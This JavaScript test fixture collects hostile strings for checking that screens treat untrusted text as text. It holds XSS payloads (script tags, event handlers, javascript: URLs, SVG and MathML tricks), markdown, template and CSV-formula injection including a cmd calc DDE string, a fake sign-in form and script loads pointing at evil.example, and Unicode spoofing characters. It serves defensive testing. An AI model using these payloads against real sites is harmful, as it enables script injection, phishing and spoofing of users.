// Texts that would run code, load something, change the page or mislead a reader if a screen took them for more than text.

/** Elements made from a text have this attribute. */
export const MARKER = "data-hostile";

const HIT = "window.__hostile=1";
const EVIL = "http://evil.example";

const MARKUP = [
  `<script ${MARKER}>${HIT}</script>`,
  `<ScRiPt ${MARKER}>${HIT}</sCrIpT >`,
  `<script ${MARKER} src=${EVIL}/a.js></script>`,
  `"><script ${MARKER}>${HIT}</script>`,
  `</title></textarea></style><img ${MARKER} src=x onerror=${HIT}>`,
  `<img ${MARKER} src=x onerror="${HIT}">`,
  `<img/${MARKER}/src="x"/onerror=${HIT}>`,
  `<img ${MARKER} src="${EVIL}/pixel.png">`,
  `<img ${MARKER} srcset="${EVIL}/a.png 1x">`,
  `<svg ${MARKER} onload=${HIT}>`,
  `<svg ${MARKER}><script>${HIT}</script></svg>`,
  `<svg ${MARKER}><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg ${MARKER}><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${HIT}'/>#x"></use></svg>`,
  `<svg ${MARKER}><foreignObject><iframe srcdoc="<script>parent.__hostile=1</script>"></iframe></foreignObject></svg>`,
  `<math ${MARKER}><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  `<math ${MARKER} href="javascript:${HIT}">click</math>`,
  `<iframe ${MARKER} src="javascript:parent.__hostile=1"></iframe>`,
  `<iframe ${MARKER} srcdoc="<script>parent.__hostile=1</script>"></iframe>`,
  `<object ${MARKER} data="${EVIL}/a.swf"></object><embed ${MARKER} src="${EVIL}/b.swf">`,
  `<video ${MARKER} autoplay><source onerror=${HIT}></video>`,
  `<audio ${MARKER} src=x onerror=${HIT}>`,
  `<body ${MARKER} onload=${HIT}>`,
  `<input ${MARKER} autofocus onfocus=${HIT}>`,
  `<details ${MARKER} open ontoggle=${HIT}><summary>more</summary></details>`,
  `<select ${MARKER} autofocus onfocus=${HIT}><option>one</select>`,
  `<marquee ${MARKER} onstart=${HIT}>moves</marquee>`,
  `<a ${MARKER} href="javascript:${HIT}">link</a>`,
  `<a ${MARKER} href="&#106;avascript&colon;${HIT}">entities</a>`,
  `<form ${MARKER} action="${EVIL}"><button>Sign in again</button></form>`,
  `<meta ${MARKER} http-equiv=refresh content="0;url=${EVIL}">`,
  `<base ${MARKER} href="${EVIL}/">`,
  `<link ${MARKER} rel=stylesheet href="${EVIL}/a.css">`,
  `<style ${MARKER}>body{background:url(${EVIL}/css)}</style>`,
  `<div ${MARKER} style="position:fixed;inset:0;background:url(${EVIL}/cover)">covers all</div>`,
  `<template ${MARKER}><img src=x onerror=${HIT}></template>`,
  `<noscript><p title="</noscript><img ${MARKER} src=x onerror=${HIT}>">`,
  `<!--><img ${MARKER} src=x onerror=${HIT}>-->`,
  `<![CDATA[<img ${MARKER} src=x onerror=${HIT}>]]>`,
  `<x-element ${MARKER} onclick=${HIT}>own element</x-element>`,
];

const ADDRESSES = [
  `javascript:${HIT}`,
  ` \tjava\nscript:${HIT}`,
  `data:text/html,<script ${MARKER}>${HIT}</script>`,
  `data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=`,
  `vbscript:msgbox(1)`,
  `//evil.example/x`,
  `../../../../r/..%2f..%2fapi/v1/session`,
];

const MARKDOWN = [
  `[a link](javascript:${HIT})`,
  `[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[a link](${EVIL} "x\\" onmouseover=${HIT}")`,
  `![an image](${EVIL}/a.png)`,
  `![an image](javascript:${HIT})`,
  `![x](x"onerror="${HIT})`,
  `<javascript:${HIT}>`,
  `[r]: javascript:${HIT}\n[r]`,
  `**bold <img ${MARKER} src=x onerror=${HIT}>**`,
  `\`\`\`html\n<img ${MARKER} src=x onerror=${HIT}>\n\`\`\``,
  `| a | <img ${MARKER} src=x onerror=${HIT}> |\n|---|---|\n| 1 | [x](javascript:${HIT}) |`,
  `${"> ".repeat(300)}deep quote`,
  `${"[".repeat(200)}x${"](y)".repeat(200)}`,
];

const TEMPLATES = [
  "{{constructor.constructor('window.__hostile=1')()}}",
  "${window.__hostile=1}",
  "<%= window.__hostile=1 %>",
  "#{window.__hostile=1}",
  "';window.__hostile=1;//",
  "\\u003cimg data-hostile src=x onerror=window.__hostile=1\\u003e",
  `&lt;img ${MARKER} src=x onerror=${HIT}&gt; &amp;#60;`,
  `%3Cimg ${MARKER} src=x onerror=${HIT}%3E %00 %`,
  "%s%n%x%p {0} {} $1 $& \\1",
  `=HYPERLINK("${EVIL}","Click")`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1-1",
  "}body{display:none}*{background:url(http://evil.example/css)}",
];

const NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "null", "undefined", "NaN", "-0", "0", ".", ".."];

const CHARACTERS = [
  "report\u202Egpj.exe",
  "\u2066isolated\u2069 \u202Dforced\u202C",
  "admin\u200B\u200D\u2060\uFEFF",
  "\u0430dmin \u0440\u0430ypal.com",
  "\u05E9\u05DC\u05D5\u05DD (1) \u0645\u0631\u062D\u0628\u0627",
  "Z\u0351\u036B\u0343\u036A\u0302a\u0300\u0316\u0317\u0318l\u0321\u0322\u0327g\u0328\u034Fo\u0338",
  "\u001B[31mred\u001B[0m\u001B]8;;http://evil.example\u0007link\u001B]8;;\u0007",
  "bell\u0007 backspace\b\b\b vertical\u000B form\u000C delete\u007F c1\u009B31m",
  "null\u0000byte",
  "lone \uD800 and \uDC00",
  "line\u2028separator\u2029paragraph",
  "carriage\rreturn\r\n\r\nSet-Cookie: a=b",
  "\u{E0041}\u{E0042}tags",
  "👩‍👩‍👧‍👦 🏴‍☠️ \u{1F1E9}\u{1F1EA}",
  "\uFDFD\u{12031}".repeat(3),
  "w".repeat(120),
  "한글ᅠㅤ채움",
  " leading and trailing ",
  "\t\n",
];

/** All texts. Every one is different. */
export const HOSTILE_TEXTS = [...MARKUP, ...ADDRESSES, ...MARKDOWN, ...TEMPLATES, ...NAMES, ...CHARACTERS];

/** The text that screens are searched for: it is markup and short enough for every name. */
export const SHOWN = `<img ${MARKER} src=x onerror="${HIT}">`;

/** Returns texts as values, as names of members and nested. */
export function hostileValue(texts) {
  // JSON.parse makes `__proto__` an own member, as it does with a server's answer.
  const named = JSON.parse(`{${texts.map((text, index) => `${JSON.stringify(text)}:${index}`).join(",")}}`);
  return { list: texts, named, [SHOWN]: { [SHOWN]: [SHOWN] } };
}
